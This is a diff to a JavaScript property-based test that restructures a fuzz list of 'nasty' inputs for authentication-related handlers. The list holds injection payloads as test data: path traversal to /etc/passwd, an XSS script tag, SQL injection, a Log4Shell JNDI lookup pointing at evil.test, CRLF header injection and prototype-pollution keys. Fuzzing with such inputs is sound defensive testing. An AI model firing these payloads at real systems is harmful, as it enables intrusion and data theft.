@@ -39,34 +39,14 @@ const handlers = makeHandlers(deps);
 const ID = 'A'.repeat(43);
 
 /** Texts that have broken something somewhere. */
-const nasty = fc.constantFrom(
-  '',
-  'null',
-  'undefined',
-  '__proto__',
-  'constructor',
-  'toString',
-  '\u0000',
-  '\r\nset-cookie: a=b',
-  '\ud800',
-  '%',
-  '%00',
-  '%2e%2e%2f',
-  '../../etc/passwd',
-  '//evil.test',
-  '<script>alert(1)</script>',
-  "' OR 1=1 --",
-  '${jndi:ldap://evil.test}',
-  'ø'.repeat(300),
-  'a'.repeat(9000),
-  '1e309',
-  '-1',
-  'https://evil.test',
-  ISSUER,
-  GATEWAY,
-  ID,
-  'the-code',
-  'login',
+const nasty = fc.oneof(
+  words(
+    'null undefined __proto__ constructor toString % %00 %2e%2e%2f ../../etc/passwd //evil.test <script>alert(1)</script> ${jndi:ldap://evil.test} 1e309 -1 https://evil.test the-code login',
+  ),
+  fc.constantFrom(
+    ...['', '\u0000', '\r\nset-cookie: a=b', '\ud800', "' OR 1=1 --", 'ø'.repeat(300), 'a'.repeat(9000)],
+    ...[ISSUER, GATEWAY, ID],
+  ),
 );
 const text = fc.oneof(nasty, fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 20 }));
 const names = fc.oneof(
